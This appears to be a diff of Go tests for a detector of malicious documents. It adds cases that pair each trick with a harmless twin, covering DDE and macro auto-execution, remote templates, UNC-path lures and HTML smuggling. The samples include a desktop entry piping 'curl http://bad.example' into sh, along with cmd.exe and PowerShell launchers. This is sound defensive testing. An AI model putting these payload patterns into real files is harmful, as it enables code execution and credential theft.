@@ -3,6 +3,7 @@ package document
 import (
 	"bytes"
 	"encoding/base64"
+	"encoding/hex"
 	"errors"
 	"fmt"
 	"strings"
@@ -50,6 +51,23 @@ func smuggled(build string) []byte {
 	return []byte(`<html><script>var d="` + b64 + `"; var b=` + build + `</script></html>`)
 }
 
+// inPieces breaks the long string of a script into a sum of short ones.
+func inPieces(page []byte) []byte {
+	before, rest, _ := bytes.Cut(page, []byte(`d="`))
+	long, after, _ := bytes.Cut(rest, []byte(`"`))
+	var b bytes.Buffer
+	b.Write(before)
+	b.WriteString(`d="`)
+	for i, c := range long {
+		if b.WriteByte(c); i%60 == 59 {
+			b.WriteString("\" +\n \"")
+		}
+	}
+	b.WriteString(`"`)
+	b.Write(after)
+	return b.Bytes()
+}
+
 // TestTricks: each trick is found under its name, and its harmless twin passes.
 func TestTricks(t *testing.T) {
 	t.Parallel()
@@ -75,6 +93,8 @@ func TestTricks(t *testing.T) {
 		{"Document.Macro.OtherSource", "a.doc", "application/msword", compiled("\x01\x16\x03\x00 WScript.Shell", "Sub AutoOpen()\r\nEnd Sub"), compiled("\x01\x16\x03\x00 WScript.Shell", "Sub Run()\r\nCreateObject(\"wscript.shell\")\r\nEnd Sub")},
 		{"Document.Macro.NoSource", "a.doc", "application/msword", buildCFB("", stream{"VBA", "M", append([]byte("\x01\x16\x01\x00"), make([]byte, 600)...)}), buildCFB("", stream{"VBA", "dir", append([]byte("\x01\x16\xb2\x00"), make([]byte, 600)...)})},
 		{"Document.Macro.NoSource", "a.doc", "application/msword", buildCFB("", stream{"VBA", "M", append([]byte("\x01\x16\x03\x00"), make([]byte, 600)...)}), compiled("\x01\x16\x03\x00", "Sub Run()\r\nEnd Sub")},
+		{"Document.Macro.NoSource", "a.doc", "application/msword", buildCFB("", stream{"VBA", "M", []byte("\x02 no source")}), buildCFB("", stream{"VBA", "_VBA_PROJECT", []byte("\xcc\x61")}, stream{"VBA", "__SRP_0", []byte("x")})},
+		{"Document.Macro.AutoExec", "a.doc", "application/msword", buildCFB("", stream{"VBA", "M", rawModule("Sub AutoOpen()\r\nShell(\"cmd.exe\")\r\nEnd Sub")}), buildCFB("", stream{"VBA", "M", rawModule("Sub Total()\r\nEnd Sub")})},
 		{"Document.XLM.AutoExec", "a.xls", "application/vnd.ms-excel", xls(true, "Auto_Open", 0x42, 1, 0x6e, 0), xls(false, "Area", 0x42, 1, 4, 0)},
 		{"Document.DDE.Command", "a.xls", "application/vnd.ms-excel", buildCFB("", stream{"", "Workbook", append(record(recBegin, make([]byte, 8)...), record(recSupBook, append([]byte{0, 0, 18, 0, 0}, "cmd\x03 /c calc.exe !"...)...)...)}), xls(false, "x")},
 		{"Document.EquationExploit", "a.doc", "application/msword", buildCFB("", stream{"", "Equation Native", equation(60)}), buildCFB("", stream{"", "Equation Native", equation(10)})},
@@ -86,6 +106,10 @@ func TestTricks(t *testing.T) {
 		{"Document.EquationExploit", "a.rtf", "text/rtf", buildRTF("Equation.3", equation(60), "", ""), buildRTF("Equation.3", equation(8), "", "")},
 		{"Document.RemoteTemplate", "a.rtf", "text/rtf", []byte(`{\rtf1{\*\template http://bad.example/a.dotm}x}`), []byte(`{\rtf1{\*\template C:\\Users\\a\\Normal.dotm}x}`)},
 		{"Document.DDE.Command", "a.rtf", "text/rtf", []byte(`{\rtf1{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"}{\fldrslt x}}}`), []byte(`{\rtf1{\field{\*\fldinst PAGE}{\fldrslt 1}}}`)},
+		{"Document.RemoteTemplate", "a.doc", "text/xml", []byte(`<?xml version="1.0"?><!--` + strings.Repeat(" ", 3000) + `--><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:attachedTemplate w:val="https://bad.example/a.dotm"/></w:wordDocument>`), []byte(`<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:attachedTemplate w:val="Normal.dotm"/></w:wordDocument>`)},
+		{"Document.DDE.Command", "a.xml", "text/xml", []byte(`<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook><Cell ss:Formula="=cmd|'/c calc'!A0"/></Workbook>`), []byte(`<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook><Cell ss:Formula="=A1+1"/></Workbook>`)},
+		{"Document.Macro.AutoExec", "a.fodt", "text/xml", []byte(`<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><script:event-listener script:event-name="dom:load"/></office:document>`), []byte(`<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xhtml="http://www.w3.org/1999/xhtml"><office:scripts><office:script script:language="ooo:Basic"/></office:scripts></office:document>`)},
+		{"Outlook.Share", "a.msg", "application/vnd.ms-outlook", buildCFB("", stream{"", "__properties_version1.0", []byte{1}}, stream{"", "__substg1.0_8005001F", wide(`\\bad.example\x.wav`)}), buildCFB("", stream{"", "__properties_version1.0", []byte{1}}, stream{"__attach_version1.0_#00000000", "__substg1.0_370D001F", wide(`\\server\x.docx`)})},
 		{"PDF.JavaScript.Exploit", "a.pdf", "application/pdf", js("eval\\(unescape\\('%u9090%u9090'\\)\\)"), js("AFNumber_Format\\(2, 0, 0, 0, '', true\\)")},
 		{"PDF.JavaScript.AutoReach", "a.pdf", "application/pdf", js("app.launchURL\\('http://bad.example'\\)"), buildPDF("<< /A << /S /JavaScript /JS (app.launchURL\\('http://ok.example'\\)) >> >>")},
 		{"PDF.Launch.Command", "a.pdf", "application/pdf", buildPDF("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), buildPDF("<< /S /GoTo /D [2 0 R /Fit] >>")},
@@ -105,6 +129,10 @@ func TestTricks(t *testing.T) {
 		{"Document.XLM.AutoExec", "a.slk", "text/plain", []byte("ID;P\nC;X1;Y101;K0;EEXEC(\"calc\")\n"), []byte("ID;P\nC;X1;Y1;K\"EXEC\"\n")},
 		{"Shortcut.Share", "a.url", "text/plain", []byte("[InternetShortcut]\r\nURL=file://10.0.0.1@80/share/a.vbs\r\n"), []byte("[InternetShortcut]\r\nURL=https://ok.example/\r\n")},
 		{"Shortcut.Share", "a.scf", "text/plain", []byte("[Shell]\r\nIconFile=\\\\bad.example\\x.ico\r\n"), []byte("[Shell]\r\nIconFile=explorer.exe,3\r\n")},
+		{"Shortcut.Share", "a.theme", "text/plain", []byte("[Control Panel\\Desktop]\r\nWallpaper=\\\\bad.example\\s\\x.jpg\r\n"), []byte("[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\x.jpg\r\n")},
+		{"Shortcut.Share", "desktop.ini", "text/plain", []byte("[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.1\\s\\x.dll,0\r\n"), []byte("[x]\r\npath=C:\\\\Users\\\\a\r\n")},
+		{"Shortcut.Share", "a.asx", "text/xml", []byte(`<asx><entry><ref href="file://bad.example/x.mp3"/></entry></asx>`), []byte(`<asx><entry><ref href="https://ok.example/x.mp3"/></entry></asx>`)},
+		{"Script.RemoteDesktop", "a.rdp", "text/plain", append([]byte("\xff\xfe"), wide("redirectdrives:i:1\r\nfull address:s:bad.example:443\r\n")...), []byte("redirectdrives:i:0\r\n")},
 		{"Shortcut.RemoteFolder", "a.library-ms", "text/xml", []byte(`<libraryDescription><simpleLocation><url>\\bad.example\webdav</url></simpleLocation></libraryDescription>`), []byte(`<libraryDescription><simpleLocation><url>knownfolder:{X}</url></simpleLocation></libraryDescription>`)},
 		{"Script.SettingContent", "a.settingcontent-ms", "text/xml", []byte("<DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink>"), []byte("<Icon/>")},
 		{"Script.Desktop", "a.desktop", "text/plain", []byte("[Desktop Entry]\nExec=sh -c 'curl http://bad.example|sh'\n"), []byte("[Desktop Entry]\nName=x\n")},
@@ -115,10 +143,17 @@ func TestTricks(t *testing.T) {
 		{"HTML.Redirect", "a.html", "text/html", []byte(`<script>window.location.href = "http://bad.example"</script>`), []byte(`<p>location = Berlin</p>`)},
 		{"HTML.Application", "a.hta", "text/html", []byte(`<html><hta:application id=x><script>1</script>`), []byte(`<html><p>x</p>`)},
 		{"HTML.ProtocolLink", "a.html", "text/html", []byte(`<a href="search-ms:query=x&crumb=location:\\bad.example">`), []byte(`<a href="https://ok.example/?q=ms-word">`)},
+		{"HTML.Smuggling", "a.html", "text/html", inPieces(smuggled(`new Blob([atob(d)]); a.href=URL.createObjectURL(b)`)), []byte("<html><script>var a = ['one', 'two'].join('')</script></html>")},
+		{"HTML.Smuggling", "a.html", "application/pdf", append([]byte("<!-- %PDF-1.7 -->"), smuggled(`new Blob([atob(d)]); a.href=URL.createObjectURL(b)`)...), []byte("<!-- %PDF-1.7 --><html><p>x</p></html>")},
+		{"HTML.Refresh", "a.html", "text/html", []byte(`<meta http-equiv="refresh" content="0;http://bad.example/">`), []byte(`<meta http-equiv="refresh" content="300">`)},
+		{"XML.Script", "a.xml", "text/xml", []byte(`<?xml version="1.0"?><a><x:script xmlns:x="http://www.w3.org/1999/xhtml">location='https://bad.example'</x:script></a>`), []byte(`<?xml version="1.0"?><ubl:Invoice xmlns:ubl="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><cbc:Description>script</cbc:Description></ubl:Invoice>`)},
+		{"XML.Script", "a.xml", "text/xml", []byte(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><xsl:stylesheet id="x" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><script>1</script></xsl:stylesheet>`), []byte(`<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>`)},
+		{"SVG.Script", "a.svg", "image/svg+xml", []byte(`<svg xmlns="x"><animate onend="x()"/></svg>`), []byte(`<svg xmlns="x"><animate dur="1s"/></svg>`)},
 		{"SVG.Script", "a.svg", "image/svg+xml", []byte(`<svg xmlns="x"><script>location='http://bad.example'</script></svg>`), []byte(`<svg xmlns="x"><path d="M0 0"/></svg>`)},
 		{"SVG.Page", "a.svg", "image/svg+xml", []byte(`<svg><foreignObject><form action="http://bad.example"><input></form></foreignObject></svg>`), []byte(`<svg><foreignObject><p>x</p></foreignObject></svg>`)},
 		{"Name.RightToLeft", "invoice\u202efdp.exe", "text/plain", []byte("text"), []byte("")},
 		{"Name.DoubleExtension", "report.pdf.exe", "text/plain", []byte("text"), []byte("")},
+		{"Type.Program", "update", "application/x-elf", []byte("\x7fELF\x02\x01\x01"), []byte("text")},
 		{"Type.Program", "a.pdf", "application/vnd.microsoft.portable-executable", program(), []byte("%PDF-1.4")},
 		{"Type.Page", "a.pdf", "text/html", []byte("<html>x</html>"), []byte("%PDF-1.4")},
 		{"Type.Archive", "a.jpg", "application/zip", []byte("PK\x03\x04"), []byte("\xff\xd8\xff\xe0")},
@@ -160,11 +195,19 @@ func TestPackages(t *testing.T) {
 		{"Document.RemoteObject", with("word/_rels/document.xml.rels", rels("oleObject", "mhtml:http://bad.example/x!x-usc:http://bad.example/x")), with("word/_rels/document.xml.rels", rels("image", "https://ok.example/logo.png"))},
 		{"Document.RemoteObject", with("word/_rels/document.xml.rels", rels("frame", "http://bad.example/")), with("xl/_rels/workbook.xml.rels", rels("externalLinkPath", "book2.xlsx"))},
 		{"Document.RemoteObject", with("word/_rels/document.xml.rels", rels("image", "file://bad.example/x.png")), with("word/_rels/document.xml.rels", rels("image", "file:///C:/x.png"))},
+		{"Document.RemoteTemplate", with("word/_rels/settings.xml.rels", "\xff\xfe"+string(wide(rels("attachedTemplate", "http://bad.example/a.dotm")))), with("word/_rels/settings.xml.rels", "\xff\xfe"+string(wide(rels("attachedTemplate", "Normal.dotm"))))},
+		{"Document.RemoteTemplate", with("word/_rels/settings.xml.rels", string(wide(rels("attachedTemplate", "http://bad.example/a.dotm")))), with("word/_rels/settings.xml.rels", string(wide(rels("attachedTemplate", "Normal.dotm"))))},
+		{"Document.ProgramLink", with("ppt/slides/_rels/slide1.xml.rels", rels("hyperlink", "powershell%20-NoP%20-c%20x")), with("ppt/slides/_rels/slide1.xml.rels", rels("hyperlink", "https://ok.example/powershell.exe"))},
+		{"Document.ProgramLink", with("word/_rels/document.xml.rels", rels("hyperlink", `file:///C:\Windows\System32\calc.exe`)), with("word/_rels/document.xml.rels", rels("hyperlink", "file:///C:/python/notes.pdf"))},
+		{"Document.ProgramLink", word(runs(`HYPERLINK "search-ms:query=x"`)), word(runs(`HYPERLINK "mailto:a@b.example?subject=x.exe"`))},
 		{"Document.DDE.Command", word(runs("DDE", "AUTO c:\\\\windows\\\\system32\\\\c", "md.exe \"/k calc\"")), word(runs(" PAGE "))},
 		{"Document.DDE.Command", word(`<w:document xmlns:w="w"><w:p><w:fldSimple w:instr='DDEAUTO "powershell" "-enc x"'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:document>`), word(`<w:document xmlns:w="w"><w:p><w:fldSimple w:instr='DATE'/></w:p></w:document>`)},
 		{"Document.DDE.Command", word(runs("DDEAUTO ", "QUOTE 67 77 68", " x")), word(runs("QUOTE 67 77 68"))},
 		{"Document.DDE.Command", with("xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`), with("xl/externalLinks/externalLink1.xml", `<externalLink><externalBook/></externalLink>`)},
 		{"Document.XLM.AutoExec", map[string]string{"[Content_Types].xml": "", "xl/workbook.xml": `<workbook><sheets><sheet name="m" state="veryHidden"/></sheets><definedName name="_xlnm.Auto_Open">m!$A$1</definedName></workbook>`, "xl/macrosheets/sheet1.xml": `<f>EXEC("calc")</f>`}, map[string]string{"[Content_Types].xml": "", "xl/workbook.xml": `<workbook><sheets><sheet name="m" state="hidden"/></sheets></workbook>`, "xl/worksheets/sheet1.xml": `<f>SUM(A1)</f>`}},
+		{"Document.XLM.AutoExec", map[string]string{"[Content_Types].xml": "", "xl/workbook.xml": `<workbook><definedName name="_xlnm.Auto_Open">m!$A$1</definedName></workbook>`, "xl/some/sheet1.xml": `<xm:macrosheet xmlns:xm="x"><f>EXEC("calc")</f></xm:macrosheet>`}, map[string]string{"[Content_Types].xml": "", "xl/workbook.xml": `<workbook><definedName name="Area">m!$A$1</definedName></workbook>`, "xl/some/sheet1.xml": `<worksheet><f>SUM(A1)</f></worksheet>`}},
+		{"Document.XLM.AutoExec", map[string]string{"[Content_Types].xml": "", "xl/workbook.bin": "\x83\x01" + string(wide("_xlnm.Auto_Open")), "xl/macrosheets/sheet1.bin": "\x00\x42\x01\x6e\x00\x00"}, map[string]string{"[Content_Types].xml": "", "xl/workbook.bin": string(wide("_xlnm.Print_Area")), "xl/worksheets/sheet1.bin": "\x00\x42\x01\x6e\x00\x00"}},
+		{"Document.Macro.Calls", map[string]string{"content.xml": "<x/>", "Basic/Standard/Module1.xml": `<script:module>Sub Main&#13;Shell(&quot;cmd.exe&quot;)&#13;End Sub</script:module>`}, map[string]string{"content.xml": "<x/>", "Basic/Standard/script-lb.xml": `<library:library/>`}},
 		{"Document.ActiveX", with("word/activeX/activeX1.xml", "<ax:ocx/>"), word(runs(" TOC "))},
 		{"Document.AltChunk", with("word/_rels/document.xml.rels", strings.Replace(rels("aFChunk", "chunk.rtf"), `TargetMode="External"`, "", 1)), word(runs(" TOC "))},
 		{"Document.Macro.AutoExec", map[string]string{"mimetype": "x", "content.xml": `<office:document-content xmlns:script="s"><script:event-listener script:language="ooo:script" script:event-name="dom:load"/></office:document-content>`}, map[string]string{"content.xml": "<office:document-content><text:p xmlns:text='t'>x</text:p></office:document-content>"}},
@@ -175,6 +218,31 @@ func TestPackages(t *testing.T) {
 		if f := packageOf(t, tt.miss); has(f, tt.trick) || score(f) > harmless {
 			t.Errorf("%s: the harmless twin has %+v", tt.trick, f.Findings)
 		}
+	}
+}
+
+// Of two files of one name in a document both are read.
+func TestPackages_Twice(t *testing.T) {
+	t.Parallel()
+	for _, order := range [][]string{{"Normal.dotm", "http://bad.example/a.dotm"}, {"http://bad.example/a.dotm", "Normal.dotm"}} {
+		p := NewPackage([]string{"[Content_Types].xml"})
+		for _, target := range order {
+			p.Add("word/_rels/settings.xml.rels", []byte(rels("attachedTemplate", target)))
+		}
+		if f, err := p.Open(File{Name: "a.docx"}, Limits{Bytes: 64 << 20}); err != nil || !has(f, "Document.RemoteTemplate") {
+			t.Errorf("%v: %+v, error %v", order, f.Findings, err)
+		}
+	}
+}
+
+// A document of LibreOffice that is encrypted does not open, and says so.
+func TestPackages_Locked(t *testing.T) {
+	t.Parallel()
+	if f := packageOf(t, map[string]string{"META-INF/manifest.xml": `<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>`, "encrypted-package": "x"}); f.Locked == "" {
+		t.Errorf("it opens: %+v", f)
+	}
+	if f := packageOf(t, map[string]string{"META-INF/manifest.xml": `<manifest:file-entry/>`, "content.xml": "<x/>"}); f.Locked != "" {
+		t.Error(f.Locked)
 	}
 }
 
@@ -190,6 +258,8 @@ func TestEmbedded(t *testing.T) {
 	}{
 		"ole package":     {"a.doc", "application/msword", buildCFB("", stream{"", "\x01Ole10Native", native("evil.js", data)}), "evil.js"},
 		"outlook":         {"a.msg", "application/vnd.ms-outlook", buildCFB("", stream{"", "__properties_version1.0", []byte{1}}, stream{"__attach_version1.0_#00000000", "__substg1.0_3707001F", wide("bill.pdf")}, stream{"__attach_version1.0_#00000000", "__substg1.0_37010102", data}), "bill.pdf"},
+		"body of outlook": {"a.msg", "", buildCFB("", stream{"", "__properties_version1.0", []byte{1}}, stream{"", "__substg1.0_10090102", append([]byte("\x00\x00\x00\x00\x00\x00\x00\x00MELA\x00\x00\x00\x00"), data...)}), "body.rtf"},
+		"page in rtf":     {"a.rtf", "text/rtf", []byte(`{\rtf1\ansi\fromhtml1 {\*\htmltag64 the file itself<a href="https://a.example">}x\htmlrtf{\field}\htmlrtf0{\*\htmltag72 </a>}}`), "body.html"},
 		"rtf package":     {"a.rtf", "text/rtf", buildRTF("Package", native("evil.js", data)[4:], "", ""), "evil.js"},
 		"pdf":             {"a.pdf", "application/pdf", buildPDF("<< /Type /Filespec /F (evil.js) /EF << /F 2 0 R >> >>", pdfStreamOf("/Type /EmbeddedFile", data)), "evil.js"},
 		"pdf filters":     {"a.pdf", "application/pdf", buildPDF("<< /F (evil.js) /EF << /F 2 0 R >> >>", pdfStreamOf("/Filter [/ASCII85Decode /FlateDecode]", chain)), "evil.js"},
@@ -286,6 +356,21 @@ func TestPDF_Objects(t *testing.T) {
 	locked := bytes.Replace(buildPDF("<< /Type /Catalog >>", "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O (01234567890123456789012345678901) /U (01234567890123456789012345678901) >>"), []byte("/Root 1 0 R"), []byte("/Root 1 0 R /Encrypt 2 0 R /ID [(x)(x)]"), 1)
 	if f := open(t, "a.pdf", "", locked); f.Locked == "" {
 		t.Error("an encrypted file opens")
+	}
+}
+
+func TestUnpackRTF(t *testing.T) {
+	t.Parallel()
+	// MS-OXRTFCP §4.1.1.
+	b, err := hex.DecodeString("2d0000002b0000004c5a4675f1c5c7a703000a007263706731323542320af32068656c09002062770" + "5b06c647d0a800fa0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, want := string(UnpackRTF(b)), "{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n"; got != want || len(lzfuStart) != 207 {
+		t.Errorf("%q, want %q", got, want)
+	}
+	for n := range b { // what is cut off gives as much as there is
+		UnpackRTF(b[:n])
 	}
 }
 
